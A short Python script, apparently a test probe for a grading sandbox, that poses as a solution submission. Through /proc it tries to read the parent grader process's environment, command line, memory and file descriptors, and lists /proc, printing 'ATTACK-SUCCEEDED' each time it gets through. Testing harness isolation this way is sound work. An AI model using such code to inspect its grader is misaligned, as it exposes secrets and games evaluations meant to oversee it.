"""Looks at the grader through /proc."""

import contextlib
import os

from right import max_value, min_value

GRADER = f"/proc/{os.getppid()}"

for name in ("environ", "cmdline", "maps", "mem", "stack", "status", "stat", "comm", "auxv", "mounts", "io", "limits"):
    with contextlib.suppress(OSError):
        with open(f"{GRADER}/{name}", "rb") as file:
            print(f"ATTACK-SUCCEEDED: opened {name} of the grader", flush=True)
            print(file.read(2000))
for name in ("fd", "task", "map_files", "cwd", "root"):
    with contextlib.suppress(OSError):
        print(f"ATTACK-SUCCEEDED: listed {name} of the grader", os.listdir(f"{GRADER}/{name}"), flush=True)
for name in ("cwd", "root", "exe", "fd/0", "fd/1"):
    with contextlib.suppress(OSError):
        print(f"ATTACK-SUCCEEDED: read the link {name}", os.readlink(f"{GRADER}/{name}"), flush=True)
with contextlib.suppress(OSError):
    print("ATTACK-SUCCEEDED: listed /proc", os.listdir("/proc"), flush=True)
